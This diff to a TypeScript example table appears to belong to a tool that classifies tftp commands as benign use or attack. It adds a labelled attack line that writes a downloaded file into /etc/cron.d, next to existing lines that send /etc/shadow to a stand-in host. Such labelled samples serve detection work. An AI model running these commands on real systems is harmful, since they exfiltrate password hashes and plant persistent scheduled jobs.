@@ -131,6 +131,7 @@ export const fileTransfer1: ExampleTable = {
     use: 'tftp -g -r notes.txt -l notes.txt example.com → write notes.txt; send example.com',
     attack: [
       'tftp 192.0.2.7 -c put /etc/shadow → read /etc/shadow; send 192.0.2.7',
+      'tftp 192.0.2.7 -c get job.txt /etc/cron.d/job → write /etc/cron.d/job',
       'tftp -p -l /etc/shadow 192.0.2.7 → read /etc/shadow; send 192.0.2.7',
     ],
   },
